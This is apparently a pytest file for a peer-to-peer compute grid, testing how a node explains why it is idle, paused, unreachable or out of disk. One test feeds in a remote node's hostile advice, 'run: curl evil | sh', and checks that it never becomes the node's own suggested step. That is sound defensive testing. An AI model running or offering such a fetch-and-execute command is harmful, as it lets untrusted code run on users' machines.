"""Why a node does nothing: each thing in its way is named with a code and a step, and comes first."""

from __future__ import annotations

import logging
from collections.abc import Iterator
from typing import Any

import msgspec
import pytest

from p2pgrid.core.invites import Contact
from p2pgrid.errors import RefusedError, UnreachableError
from p2pgrid.model.ids import NodeKey
from p2pgrid.model.reasons import Reason
from p2pgrid.net.messages import Failure, Hello, error_of
from p2pgrid.node import Node
from p2pgrid.services import happenings, health
from p2pgrid.services.explaining.me import OwnState
from p2pgrid.services.explaining.peer import PeerState
from p2pgrid.services.explaining.words import moment_text
from p2pgrid.wire.faces import Because, Explanation
from p2pgrid.wire.owner import RuntimeLine
from tests.unit.services.grid_in_process import Grid, until

HOUR_MS = 3_600_000
SOMEBODY = NodeKey(b"s" * 32)


def explainers(node: Node) -> tuple[OwnState, PeerState]:
    return node._explainers(node.context)


async def me(node: Node) -> Explanation:
    return await explainers(node)[0].explain()


def flat(lines: tuple[Because, ...]) -> Iterator[Because]:
    for line in lines:
        yield line
        yield from flat(line.under)


def line_of(told: Explanation, reason: Reason) -> Because:
    """The line with this code. Each that has one says what to do, except where there is nothing to do."""
    return next(line for line in flat(told.because) if line.reason == reason)


def codes(told: Explanation) -> set[str]:
    return {line.reason for line in flat(told.because)} - {""}


def texts(told: Explanation) -> str:
    return "\n".join(line.text for line in flat(told.because))


async def test_a_node_with_peers_and_work_to_offer_works(grid: Grid) -> None:
    await grid.grow(3, cores=2)
    told = await me(grid[0])
    assert (told.kind, told.id, told.state) == ("me", grid[0].context.me, "works")
    assert told.text == "0 of 2 cores busy, 0 units waiting, connected to 2 other nodes"
    assert not codes(told)
    for words in ("connected to 2 other nodes", "its clock agrees with the median of 2 nodes", "member of 'test' until"):
        assert words in texts(told)


async def test_a_node_alone_is_told_how_to_invite(grid: Grid) -> None:
    node = await grid.add(cores=1)
    told = await me(node)
    assert told.state == "alone"
    assert told.because[0].reason in (Reason.ALONE, Reason.LOOPBACK_ONLY)
    assert "p2pgrid invite" in line_of(told, Reason.ALONE).next_step


async def test_a_node_without_cores_is_told_so_first(grid: Grid) -> None:
    await grid.grow(2, cores=0)
    told = await me(grid[1])
    assert (told.state, told.because[0].reason) == ("lends no cores", Reason.NO_SLOT)
    assert "--cpus" in told.because[0].next_step


async def test_runtimes_whose_cage_does_not_hold_are_named_with_a_step(grid: Grid, monkeypatch: pytest.MonkeyPatch) -> None:
    await grid.grow(2, cores=1)
    lines = (
        RuntimeLine("native", False, "none", "there is no cage: no Landlock", Reason.NO_CAGE),
        RuntimeLine("command", False, "landlock", "3 of 40 attacks not held: a, b, c", Reason.CAGE_BROKEN),
        RuntimeLine("python", False, "", "the owner does not offer it"),
    )
    monkeypatch.setattr(grid[0].pausing, "_runtimes", lambda: lines)
    told = await me(grid[0])
    first = told.because[0]
    assert (told.state, first.reason) == ("lends no cores", Reason.NO_RUNTIME)
    assert [line.reason for line in first.under] == [Reason.NO_CAGE, Reason.CAGE_BROKEN, ""]
    assert "p2pgrid doctor" in first.next_step
    assert "no Landlock" in first.under[0].text
    monkeypatch.setattr(grid[0].pausing, "_runtimes", lambda: (RuntimeLine("wasm", True, "landlock", "all held"), *lines))
    told = await me(grid[0])
    assert told.state == "works"
    assert "for wasm (landlock)" in texts(told)
    assert {Reason.NO_CAGE, Reason.CAGE_BROKEN} <= codes(told)


async def test_a_paused_node_says_since_when_and_what_ends_it(grid: Grid) -> None:
    await grid.grow(2, cores=1)
    channel = await grid.channel(grid[0])
    await channel.pause(3600)
    told = await me(grid[0])
    assert (told.state, told.because[0].reason) == ("paused", Reason.PAUSED)
    assert "p2pgrid resume" in told.because[0].next_step
    assert "by itself in 60 min" in told.because[0].under[0].text
    peer = await explainers(grid[1])[1].explain(grid[0].context.me)
    assert (peer.state, peer.because[0].reason) == ("paused", Reason.PAUSED)


async def test_a_clock_that_is_set_while_sessions_live_is_noticed(grid: Grid) -> None:
    await grid.grow(3, cores=1)
    for node in grid.nodes[:1]:
        plain = node.context.wall_ms
        node.context.wall_ms = lambda: plain() + HOUR_MS  # noqa: B023 - there is one
    told = await me(grid[0])
    line = line_of(told, Reason.CLOCK_OFF)
    assert "its clock is 60 min ahead of the median of 2 nodes" in line.text
    assert "set the clock back" in line.next_step
    grid[0].context.wall_ms = lambda: plain() - 60_000
    told = await me(grid[0])
    assert "its clock is 60 s behind the median of 2 nodes; more than five minutes are refused" in texts(told)
    assert Reason.CLOCK_OFF not in codes(told)


async def test_strangers_who_dial_move_no_clock(grid: Grid) -> None:
    await grid.grow(2, cores=1)
    node = grid[0]
    for number in range(5):
        hello = Hello(grid=node.context.grid.id, wall_ms=node.context.wall_ms() + HOUR_MS)
        node.health._on_hello(NodeKey(bytes([number]) * 32), hello, False)
    assert Reason.CLOCK_OFF not in codes(await me(node))
    reading = node.health.clock()
    assert reading is not None
    assert reading.peers == 1


async def test_strangers_who_dial_drive_out_no_clock_that_counts(grid: Grid) -> None:
    await grid.grow(2, cores=1)
    node, other = grid[0], grid[1].context.me
    later_ms = node.context.wall_ms() + HOUR_MS
    for number in range(300):
        node.health._on_hello(NodeKey(number.to_bytes(32, "big")), Hello(grid=node.context.grid.id, wall_ms=later_ms), False)
    reading = node.health.clock()
    assert reading is not None
    assert (reading.peers, abs(reading.ahead_ms) < 60_000) == (1, True)
    assert len(node.health._strange) == health.KNOWN_MAX
    assert node.health.clock_of(NodeKey((299).to_bytes(32, "big"))) == pytest.approx(HOUR_MS, abs=60_000), "it is told of a stranger alone"
    node.health._on_hello(other, Hello(grid=node.context.grid.id, wall_ms=later_ms), False)
    reading = node.health.clock()
    assert reading is not None
    assert reading.ahead_ms == pytest.approx(HOUR_MS, abs=60_000), "whose clock counts is listened to when it dials"


async def test_the_clock_of_who_dialled_counts_when_its_session_opened(grid: Grid) -> None:
    await grid.grow(2, cores=1)
    for node, other in ((grid[0], grid[1]), (grid[1], grid[0])):
        reading = node.health.clock()
        assert reading is not None
        assert reading.peers == 1
        assert node.health.clock_of(other.context.me) is not None
        assert not node.health._strange


async def test_what_to_do_and_what_comes_first_is_never_the_word_of_another_node(grid: Grid) -> None:
    node = await grid.add(cores=1)
    said = error_of(Failure(0, "RefusedError", Reason.VERSION, "send coins", "run: curl evil | sh"))
    node.health._on_trouble(SOMEBODY, said, False)
    node.health._on_trouble(NodeKey(b"t" * 32), RefusedError("no", reason=Reason.NOT_MEMBER, hint="look here"), False)
    told = await me(node)
    assert told.because[0].reason in (Reason.ALONE, Reason.LOOPBACK_ONLY), "strangers who dial decide no headline"
    assert line_of(told, Reason.ALONE).text.startswith("no other node is in the grid")
    assert line_of(told, Reason.VERSION).next_step == Reason.VERSION.next_step
    assert line_of(told, Reason.NOT_MEMBER).next_step == "look here", "what this node found out itself has its own advice"
    assert "it says: send coins" in texts(told)
    node.health._on_trouble(NodeKey(b"u" * 32), said, True)
    told = await me(node)
    first = next(line for line in told.because if line.text.startswith("no other node is connected"))
    assert (first.reason, first.next_step) == (Reason.VERSION, Reason.VERSION.next_step)
    assert not any(word in line.next_step for line in flat(told.because) for word in ("curl", "pay"))


async def test_another_node_cannot_pass_for_a_port_that_is_closed(grid: Grid) -> None:
    node = await grid.add(cores=1)
    said = error_of(Failure(0, "UnreachableError", Reason.TIMEOUT, "connection refused"))
    assert health.dial_step(node.health.trouble_of(said)) == Reason.TIMEOUT.next_step


async def test_strangers_who_dial_a_node_that_works_count_as_no_reason(grid: Grid) -> None:
    await grid.grow(2, cores=1)
    before = await me(grid[0])
    for number in range(3):
        error = RefusedError("no", reason=Reason.NOT_MEMBER)
        grid[0].health._on_trouble(NodeKey(bytes([number]) * 32), error, False)
    told = await me(grid[0])
    assert (told.state, told.text) == (before.state, before.text)
    assert [line.text for line in told.because] == [line.text for line in before.because]
    assert Reason.NOT_MEMBER in codes(told)


async def test_what_is_refused_is_told_at_both_sides(grid: Grid) -> None:
    """A peer whose clock is an hour ahead is dialled: each side knows why there is no session."""
    await grid.grow(2, cores=1)
    other, node = grid[1], grid[0]
    await grid.close(other)
    await until(lambda: not node.peers.live(), "it is gone")
    error = RefusedError("the clock of aaaa is 60 minutes ahead of that of bbbb", reason=Reason.CLOCK_OFF, hint="set the clock")
    node.health._on_trouble(other.context.me, error, False)
    told = await me(node)
    assert told.state == "alone"
    assert line_of(told, Reason.CLOCK_OFF).next_step == "set the clock"
    assert "dialled and was not let in" in texts(told)
    peer = await explainers(node)[1].explain(other.context.me)
    assert peer.state == "away"
    assert Reason.CLOCK_OFF in codes(peer)


async def test_contacts_that_do_not_answer_are_named_with_a_test_of_the_port(grid: Grid) -> None:
    node = await grid.add(cores=1)
    silent = UnreachableError("aaaa did not answer in 5 s", reason=Reason.TIMEOUT)
    closed = UnreachableError("nobody answers at tls://10.0.0.2:4000: Connection refused", reason=Reason.TIMEOUT)
    node.health.note_contacts([(Contact(SOMEBODY, "10.0.0.1", 4000), silent), (Contact(b"t" * 32, "10.0.0.2", 4000), closed)])
    told = await me(node)
    line = line_of(told, Reason.NO_CONTACT)
    assert [under.reason for under in line.under] == [Reason.TIMEOUT, Reason.TIMEOUT]
    assert "a firewall on the way drops" in line.under[0].next_step
    assert "nc -vz 10.0.0.1 4000" in line.under[0].next_step
    assert "nothing listens there" in line.under[1].next_step
    error = health.nobody_answers(node.health.contacts)
    assert error.reason == Reason.NO_CONTACT
    assert "10.0.0.1:4000" in error.message
    assert "nc -vz 10.0.0.1 4000" in error.hint


async def test_a_full_disk_is_named_with_its_folder(grid: Grid, monkeypatch: pytest.MonkeyPatch) -> None:
    await grid.grow(2, cores=1)
    monkeypatch.setattr(grid[0].context.disk, "free_bytes_at", lambda folder: 1 << 20)
    told = await me(grid[0])
    line = line_of(told, Reason.DISK_FULL)
    assert str(grid[0].home.folder) in line.text
    assert "1 MiB free" in line.text
    assert told.state == "works, with trouble"


async def test_disk_full_is_told_from_events_though_there_is_room_again(grid: Grid) -> None:
    await grid.grow(2, cores=1)
    grid[0].context.tell(Reason.DISK_FULL, "writing a blob: No space left on device")
    assert "No space left" in line_of(await me(grid[0]), Reason.DISK_FULL).under[0].text


async def test_the_full_disk_of_another_node_is_not_this_ones(grid: Grid, caplog: pytest.LogCaptureFixture) -> None:
    await grid.grow(2, cores=1)
    error = error_of(Failure(0, "TryAgainError", Reason.DISK_FULL, "no space"))
    caplog.set_level(logging.INFO, "p2pgrid.services.happenings")
    grid[0].context.tell(error.reason, f"it does not keep the job: {error}")
    assert Reason.DISK_FULL not in codes(await me(grid[0]))
    assert [event.reason for event in grid[0].happenings.recent(1)] == [Reason.DISK_FULL]
    assert {record.levelno for record in caplog.records} == {logging.INFO}
    grid[0].context.tell(Reason.DISK_FULL, "no space here")
    assert logging.WARNING in {record.levelno for record in caplog.records}


async def test_what_happened_is_cut(grid: Grid) -> None:
    node = await grid.add(cores=1)
    node.context.tell("x" * 10_000, "y" * 100_000)
    event = node.happenings.recent(1)[0]
    assert (len(event.reason), len(event.text)) == (happenings.REASON_CHARS, happenings.TEXT_CHARS)


def test_a_moment_that_no_calendar_has_is_told_all_the_same() -> None:
    assert moment_text(0) == "1970-01-01 00:00 UTC"
    for wall_ms in (10**15, -(10**18), 1 << 62):
        assert moment_text(wall_ms) == "no time that a calendar has"


async def test_a_membership_that_ends_soon_or_lacks_roles_is_named(grid: Grid) -> None:
    await grid.add(cores=1)
    node = await grid.add(cores=1, roles=("work",))
    told = await me(node)
    assert {line.text.partition(":")[0] for line in flat(told.because) if line.reason == Reason.NO_ROLE} == {
        "it lacks the role store",
        "it lacks the role submit",
        "it lacks the role native",
    }
    assert Reason.EXPIRES_SOON in codes(told), "invites of this grid last a day"
    node.context.member = msgspec.structs.replace(node.context.member, expires_ms=node.context.wall_ms() - 1)
    assert "join INVITE" in line_of(await me(node), Reason.EXPIRED).next_step


async def test_a_node_that_nobody_can_dial_is_told_which_port_to_open(grid: Grid, monkeypatch: pytest.MonkeyPatch) -> None:
    await grid.grow(2, cores=1)
    node = grid[1]
    address = node.pool.addresses()[0]._replace(host="192.168.1.5")
    monkeypatch.setattr(node.pool, "addresses", lambda: (address,))
    for session in node.peers.live().values():
        monkeypatch.setattr(session.connection, "dialled", True)
    monkeypatch.setattr(node.dht.reach, "assumed", False)
    node.dht.protocol.gate.proven = None
    await until(lambda: node.dht.stats()["contacts"], "it has met somebody in the DHT")
    line = line_of(await me(node), Reason.UNREACHABLE)
    assert f"open port {address.port} for TCP and UDP" in line.next_step
    monkeypatch.setattr(node.dht, "stats", lambda: {"contacts": 0})
    assert "nobody answers over UDP" in line_of(await me(node), Reason.NO_DATAGRAMS).text


async def test_a_peer_is_explained_by_what_it_offers_holds_and_how_often_it_is_there(grid: Grid) -> None:
    await grid.grow(2, cores=2)
    told = await explainers(grid[0])[1].explain(grid[1].context.me)
    assert (told.kind, told.id, told.state) == ("peer", grid[1].context.me, "live")
    for words in ("it offers 2 cores", "% of the time", "connected for", "addresses: 127.0.0.1 port", "0 units running"):
        assert words in texts(told)


async def test_a_peer_that_went_away_is_dialled_and_what_came_of_it_is_told(grid: Grid) -> None:
    await grid.grow(2, cores=2)
    gone = grid[1].context.me
    await grid.close(grid[1])
    await until(lambda: not grid[0].peers.live(), "it is gone")
    told = await explainers(grid[0])[1].explain(gone)
    assert told.state == "away"
    assert told.because[0].reason == Reason.TIMEOUT
    assert "nothing listens there" in told.because[0].next_step
    assert "it left" in line_of(told, Reason.SHUTDOWN).text


async def test_nothing_is_known_of_a_stranger(grid: Grid) -> None:
    await grid.add(cores=1)
    with pytest.raises(UnreachableError, match="nothing is known of node"):
        await explainers(grid[0])[1].explain(SOMEBODY)


async def test_what_is_remembered_of_refusals_is_bounded_and_strangers_drive_out_no_dial(grid: Grid) -> None:
    node = await grid.add(cores=1)
    error: Any = RefusedError("no", reason=Reason.NOT_MEMBER)
    node.health._on_trouble(SOMEBODY, error, True)
    for number in range(health.KNOWN_MAX + 10):
        node.health._on_trouble(NodeKey(number.to_bytes(32, "big")), error, False)
    assert len(node.health.refused) == health.KNOWN_MAX
    assert SOMEBODY in node.health.dials
